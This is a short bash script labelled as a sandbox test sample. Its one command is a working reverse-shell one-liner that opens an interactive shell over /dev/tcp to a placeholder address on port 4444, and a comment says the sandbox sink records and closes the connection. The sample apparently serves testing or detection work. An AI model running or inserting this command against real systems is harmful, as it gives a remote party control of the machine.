#!/bin/bash
# Test sample: a reverse shell. In the sandbox every address is the sink, which records the
# connection and closes it; nothing leaves the sandbox.
bash -i >& /dev/tcp/203.0.113.66/4444 0>&1
